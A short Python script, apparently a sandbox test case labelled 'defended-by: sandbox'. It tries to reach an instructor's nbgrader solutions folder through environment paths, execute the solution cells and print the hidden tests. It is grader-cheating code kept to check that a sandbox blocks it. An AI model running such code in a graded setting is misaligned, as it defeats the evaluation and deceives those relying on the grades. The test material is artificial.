# attack: follow DTLABS_COURSE_ROOT to the instructor's solutions/, exec the solution cell, and print a hidden test
# defended-by: sandbox
import json
import os

_root = os.environ.get("DTLABS_COURSE_ROOT") or os.environ.get("JUPYTER_CONFIG_PATH", "").split(os.pathsep)[0] + "/.."
try:
    _nb = json.load(open(os.path.join(_root, "solutions", "01_ddp_setup", "01_ddp_setup.ipynb")))
    for _cell in _nb["cells"]:
        _src = "".join(_cell["source"])
        if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
        if "### BEGIN HIDDEN TESTS" in _src:
            print("LEAKED HIDDEN TEST:", _src.split("### BEGIN HIDDEN TESTS")[1][:200])
except OSError as _exc:
    print("no route to the course:", _exc)
